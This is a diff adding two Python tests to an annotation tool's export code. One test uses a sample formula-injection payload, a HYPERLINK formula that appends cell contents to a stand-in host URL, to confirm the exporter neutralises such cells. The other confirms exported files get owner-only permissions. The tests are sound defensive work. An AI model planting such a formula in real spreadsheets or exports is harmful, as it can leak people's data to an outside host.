@@ -2,6 +2,7 @@
 
 import csv
 import json
+import os
 from dataclasses import replace
 from pathlib import Path
 
@@ -11,6 +12,7 @@ from kilter.annotation.annotation import Annotation
 from kilter.annotation.drawn_link import DrawnLink
 from kilter.annotation.project import ADJUDICATED
 from kilter.errors import InputError, OptionError
+from kilter.formats.csv_table import unguarded
 from kilter.formats.links import read_links
 from kilter.pipeline.annotation.export import AGREED, chosen_annotations, write_export
 from tests.annotation.projects import project
@@ -103,3 +105,25 @@ def test_possible_links_are_marked_or_sure_or_left_out(
 def test_nothing_is_no_export(tmp_path: Path) -> None:
     with pytest.raises(InputError, match="no sentence is done"):
         write_export(project(), [], tmp_path / "out")
+
+
+def test_a_table_of_details_runs_no_formula_in_a_spreadsheet(tmp_path: Path) -> None:
+    said = '=HYPERLINK("http://192.0.2.1/"&A1)'
+    risky = replace(ONE, comment=said, translation="+1", account="@sum")
+    write_export(project(), [risky], tmp_path / "out", details="tsv", possible="sure")
+    with (tmp_path / "out" / "details.tsv").open(encoding="utf-8", newline="") as stream:
+        (row,) = csv.DictReader(stream, dialect="excel-tab")
+    assert (row["comment"], row["translation"], row["account"]) == (f"'{said}", "'+1", "'@sum")
+    assert unguarded(row["comment"]) == said
+    assert row["seconds"] == "2.5"
+
+
+@pytest.mark.parametrize("details", ["tsv", "jsonl"])
+def test_exported_files_are_for_their_owner_only(tmp_path: Path, details: str) -> None:
+    before = os.umask(0o022)
+    try:
+        write_export(project(), [ONE], tmp_path / "out", details=details)
+    finally:
+        os.umask(before)
+    modes = {path.name: path.stat().st_mode & 0o777 for path in (tmp_path / "out").iterdir()}
+    assert {*modes.values()} == {0o600}, modes
